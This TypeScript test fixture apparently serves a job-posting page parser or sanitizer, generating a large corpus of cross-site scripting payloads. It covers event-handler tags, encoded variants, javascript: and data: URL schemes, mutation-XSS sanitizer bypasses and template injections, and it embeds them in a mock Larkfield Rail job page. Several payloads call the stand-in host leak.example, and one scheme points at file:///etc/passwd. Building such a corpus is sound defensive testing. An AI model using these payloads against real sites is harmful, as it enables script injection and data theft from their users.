/** What a payload does if it ever runs: it sets a mark that is looked for, and calls home. */
export const CANARY = 'rolecallCanary'
const HOME = 'leak.example'
const CODE = `top.${CANARY}=self.${CANARY}=1;fetch(\`https://${HOME}/ran\`);alert(1)`
const SHORT = `self.${CANARY}=1`

export interface Payload {
  name: string
  html: string
}

const TAGS: Readonly<Record<string, string>> = {
  script: `<script>${CODE}</script>`,
  'script from elsewhere': `<script src="https://${HOME}/x.js"></script>`,
  image: `<img src=x onerror="${CODE}">`,
  'image from elsewhere': `<img src="https://${HOME}/pixel.png">`,
  svg: `<svg onload="${CODE}">`,
  'svg script': `<svg><script>${CODE}</script></svg>`,
  'svg animate': `<svg><a><animate attributeName=href values="javascript:${SHORT}"/><text y=20>go</text></a></svg>`,
  'svg use': `<svg><use href="https://${HOME}/x.svg#a"/></svg>`,
  'svg foreign object': `<svg><foreignObject><iframe srcdoc="<script>${SHORT}</script>"></foreignObject></svg>`,
  math: `<math><maction actiontype="statusline#https://${HOME}" xlink:href="javascript:${SHORT}">go</maction></math>`,
  iframe: `<iframe src="javascript:${SHORT}"></iframe>`,
  'iframe document': `<iframe srcdoc="<script>${SHORT}</script>"></iframe>`,
  object: `<object data="javascript:${SHORT}"></object><embed src="https://${HOME}/x.swf">`,
  form: `<form action="https://${HOME}"><input autofocus onfocus="${CODE}"><button formaction="javascript:${SHORT}">Apply</button></form>`,
  details: `<details open ontoggle="${CODE}"><summary>More</summary></details>`,
  media: `<video autoplay onloadstart="${CODE}"><source src="https://${HOME}/x.mp4" onerror="${CODE}"></video><audio src="https://${HOME}/a" onerror="${CODE}">`,
  style: `<style>@import "https://${HOME}/x.css";*{background:url(https://${HOME}/y)}</style>`,
  'inline style': `<p style="background:url(https://${HOME}/z);position:fixed;inset:0">cover</p>`,
  link: `<link rel=stylesheet href="https://${HOME}/x.css"><link rel=prefetch href="https://${HOME}/p"><base href="https://${HOME}/">`,
  meta: `<meta http-equiv=refresh content="0;url=https://${HOME}/">`,
  marquee: `<marquee onstart="${CODE}">go</marquee>`,
  'custom element': `<x-y onclick="${CODE}" tabindex=0 autofocus onfocus="${CODE}">go</x-y>`,
  template: `<template shadowrootmode=open><script>${CODE}</script></template>`,
  portal: `<portal src="https://${HOME}"></portal><dialog open onclose="${CODE}">go</dialog>`,
}

const entities = (text: string): string => text.replace(/[<>"'&=]/g, (char) => `&#${char.charCodeAt(0)};`)
const hex = (text: string): string => text.replace(/[<>"'&=]/g, (char) => `&#x${char.charCodeAt(0).toString(16)};`)
const mixed = (text: string): string =>
  text.replace(
    /<(\/?)([a-z]+)/g,
    (_, slash: string, tag: string) => `<${slash}${tag.charAt(0).toUpperCase()}${tag.slice(1)}`,
  )

const DRESSES: Readonly<Record<string, (html: string) => string>> = {
  plain: (html) => html,
  'mixed case': mixed,
  escaped: entities,
  'escaped twice': (html) => entities(entities(html)),
  'hex entities': hex,
  'slashes for spaces': (html) => html.replace(/ (?=[a-z]+=)/gi, '/'),
  'line feeds': (html) => html.replace(/ (?=[a-z]+=)/gi, '\n\t'),
  'never closed': (html) => html.replace(/>$/, ' '),
  'broken comment': (html) => `<!--><!--!>${html}-->`,
  'behind a null': (html) => html.replace('<', '<\u0000').concat(html),
  'doubled bracket': (html) => `<${html}>`,
}

const SCHEMES = [
  `javascript:${SHORT}`,
  `JaVaScRiPt:${SHORT}`,
  `java\tscript:${SHORT}`,
  `java\nscript:${SHORT}`,
  `\u0001javascript:${SHORT}`,
  `  javascript:${SHORT}`,
  `javascript&colon;${SHORT}`,
  `javascript&#58;${SHORT}`,
  `&#106;avascript:${SHORT}`,
  `&#x6a&#x61vascript:${SHORT}`,
  `java&Tab;script:${SHORT}`,
  `java&NewLine;script:${SHORT}`,
  `javascript://%0a${SHORT}`,
  `data:text/html,<script>${SHORT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${SHORT}>`,
  `vbscript:${SHORT}`,
  `livescript:${SHORT}`,
  `blob:https://${HOME}/1`,
  `file:///etc/passwd`,
  `chrome://settings`,
  `about:blank`,
  `view-source:https://${HOME}`,
  `jar:https://${HOME}!/x`,
  `feed:javascript:${SHORT}`,
  `\u202ejavascript:${SHORT}`,
  `ｊavascript:${SHORT}`,
]

const PLACES: Readonly<Record<string, (url: string) => string>> = {
  'a link': (url) => `<a href="${url}">Apply here</a>`,
  'a bare link': (url) => `<a href=${url.replace(/\s/g, '&#9;')}>Apply here</a>`,
  'an svg link': (url) => `<svg><a xlink:href="${url}"><text y=9>Apply</text></a></svg>`,
  'an area': (url) =>
    `<map name=m><area href="${url}" shape=default></map><form action="${url}"><button>Apply</button></form>`,
}

/** Shapes that are harmless when they are read once and harmful when what was written is read again. */
const MUTATING = [
  `<noscript><p title="</noscript><img src=x onerror=${SHORT}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SHORT}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${SHORT}>">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${SHORT}>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${SHORT} src>">`,
  `<svg><desc><![CDATA[</desc><script>${SHORT}</script>]]></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${SHORT}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${SHORT}>">`,
  `<title><p title="</title><img src=x onerror=${SHORT}>">`,
  `<style><p title="</style><img src=x onerror=${SHORT}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${SHORT}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${SHORT}>">`,
  `<select><template><img src=x onerror=${SHORT}></template></select>`,
  `<table><td><svg><desc><td><img src=x onerror=${SHORT}>`,
  `<a href="x"><a href='"><img src=x onerror=${SHORT}>'>y</a></a>`,
  `<p title='"><img src=x onerror=${SHORT}>'>x</p>`,
  '<p title="`><img src=x onerror=' + SHORT + '>">x</p>',
  `<!--[if IE]><script>${SHORT}</script><![endif]-->`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${SHORT}</x:script>`,
  `<![CDATA[<img src=x onerror=${SHORT}>]]>`,
  `</p></li></ul></main></body></html><script>${SHORT}</script>`,
  `{{constructor.constructor('${SHORT}')()}}`,
  `\${${SHORT}} #{${SHORT}} <%= ${SHORT} %>`,
  `"><script>${SHORT}</script>`,
  `'-${SHORT}-'`,
  `</script><script>${SHORT}</script>`,
  `</title><script>${SHORT}</script>`,
  `\u2028${SHORT}//`,
  `＜script＞${SHORT}＜/script＞`,
  `+ADw-script+AD4-${SHORT}+ADw-/script+AD4-`,
]

const product = (a: Readonly<Record<string, string>>): Payload[] =>
  Object.entries(a).flatMap(([tag, html]) =>
    Object.entries(DRESSES).map(([dress, put]) => ({ name: `${tag}, ${dress}`, html: put(html) })),
  )

export const PAYLOADS: readonly Payload[] = [
  ...product(TAGS),
  ...SCHEMES.flatMap((url) =>
    Object.entries(PLACES).map(([place, put]) => ({
      name: `${place} to ${JSON.stringify(url).slice(0, 30)}`,
      html: put(url),
    })),
  ),
  ...MUTATING.map((html, i) => ({ name: `mutating ${i + 1}`, html })),
]

const LONG = 'You will keep the branch lines running and mend the signals of the whole valley. '
const attribute = (text: string): string => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
const textual = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;')
/** A script ends where it is told to end, whatever stands in it. */
const inScript = (value: object): string => JSON.stringify(value).replace(/</g, '\\u003c')

export const CONTEXTS: Readonly<Record<string, (payload: string) => string>> = {
  'the text': (payload) => page('Signal Engineer', '', `<p>${LONG.repeat(3)}</p><div>${payload}</div>`),
  'data, as markup': (payload) =>
    page('Signal Engineer', data({ description: `<p>${LONG.repeat(9)}</p>${payload}<p>${LONG}</p>` })),
  'data, as names': (payload) =>
    page(
      'Signal Engineer',
      data({
        title: `Engineer ${payload}`,
        hiringOrganization: { name: `Larkfield ${payload}`, url: payload, logo: payload, sameAs: payload },
        jobLocation: { address: { addressLocality: payload } },
        employmentType: payload,
        industry: payload,
        identifier: payload,
        description: `${LONG.repeat(9)} ${payload}`,
      }),
    ),
  'headline and labels': (payload) =>
    page(
      textual(`Engineer ${payload}`),
      '',
      `<p>Company: ${textual(payload)}</p><p>Location: Leeds ${textual(payload)}</p><p>Salary: £40,000 ${textual(payload)}</p>`,
    ),
  attributes: (payload) =>
    page(
      'Signal Engineer',
      `<meta property="og:title" content="${attribute(payload)}"><meta property="og:site_name" content="${attribute(payload)}"><link rel=canonical href="${attribute(payload)}">`,
      `<a href="${attribute(payload)}" class="${attribute(payload)}" title="${attribute(payload)}">Apply now</a><img alt="${attribute(payload)} logo" src="data:,">`,
    ),
}

const data = (more: object): string =>
  `<script type="application/ld+json">${inScript({ '@type': 'JobPosting', title: 'Signal Engineer', hiringOrganization: { name: 'Larkfield Rail' }, jobLocation: { address: { addressLocality: 'Leeds' } }, ...more })}</script>`

export const page = (title: string, head = '', extra = ''): string =>
  `<!doctype html><html lang="en"><head><title>${title} at Larkfield Rail</title>${head}</head><body><main><h1>${title}</h1>
  <p>Company: Larkfield Rail</p><p>Location: Leeds</p><button>Apply now</button><div class="job-description"><h2>Your tasks</h2>
  <p>${LONG.repeat(6)}</p><h2>Your profile</h2><p>${LONG.repeat(4)}</p>${extra}</div></main></body></html>`
